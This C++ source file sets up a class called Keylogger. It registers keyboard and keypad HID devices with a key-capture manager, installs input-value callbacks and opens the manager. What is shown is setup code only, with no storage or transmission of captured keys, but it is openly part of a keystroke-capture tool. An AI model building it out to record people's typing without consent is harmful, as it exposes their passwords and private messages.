#include "Keylogger/Keylogger.h"

#include <sstream>

#include "Keylogger/CallBackFunctions.h"
#include "platform/PrintLine.h"

namespace keyloom {

namespace {

std::string describe(const std::vector<DeviceMatchingDictionary>& list) {
    std::ostringstream out;
    out << '[';
    for (size_t i = 0; i < list.size(); ++i) {
        out << (i ? ", {" : "{");
        bool first = true;
        for (const auto& [key, value] : list[i]) {
            out << (first ? "" : ", ") << key << ": " << value;
            first = false;
        }
        out << '}';
    }
    out << ']';
    return out.str();
}

HidUsageMatch toMatch(const DeviceMatchingDictionary& dict) {
    auto get = [&](const char* key) {
        auto it = dict.find(key);
        return it == dict.end() ? 0u : uint32_t(it->second);
    };
    return HidUsageMatch{get("DeviceUsagePage"), get("DeviceUsage")};
}

}  // namespace

Keylogger::Keylogger() : manager(KeyCaptureManager::createDefault()) {
    init();
}

Keylogger::Keylogger(std::unique_ptr<KeyCaptureManager> m) : manager(std::move(m)) {
    if (!manager) manager = std::make_unique<KeyCaptureManager>(std::vector<std::unique_ptr<KeyInputSource>>{});
    init();
}

Keylogger::~Keylogger() = default;

void Keylogger::init() {
    deviceList.clear();
    // The manager always exists here, so there is no "cannot create" path that would end the process.
    deviceList.push_back(CreateDeviceMatchingDictionary(0x01, 0x06));
    deviceList.push_back(CreateDeviceMatchingDictionary(0xFF0A, 0x01));
    deviceList.push_back(CreateDeviceMatchingDictionary(0x01, 0x07));
    printLine("dll " + describe(deviceList));

    std::vector<HidUsageMatch> matching;
    for (const auto& dict : deviceList) matching.push_back(toMatch(dict));
    manager->setDeviceMatchingMultiple(std::move(matching));
    manager->registerDeviceMatchingCallback(&CallBackFunctions::Handle_DeviceMatchingCallback, this);
    manager->registerDeviceRemovalCallback(&CallBackFunctions::Handle_DeviceRemovalCallback, this);
    manager->registerInputValueCallback(&CallBackFunctions::Handle_IOHIDInputValueCallback, this);

    if (openHIDManager() != 0) printLine("Can't open HID!");
}

DeviceMatchingDictionary Keylogger::CreateDeviceMatchingDictionary(int64_t inUsagePage, int64_t inUsage) {
    return DeviceMatchingDictionary{{"DeviceUsagePage", inUsagePage}, {"DeviceUsage", inUsage}};
}

int Keylogger::openHIDManager() {
    return manager->open();
}

void Keylogger::scheduleHIDLoop() {
    manager->scheduleWithMainLoop();
}

}  // namespace keyloom
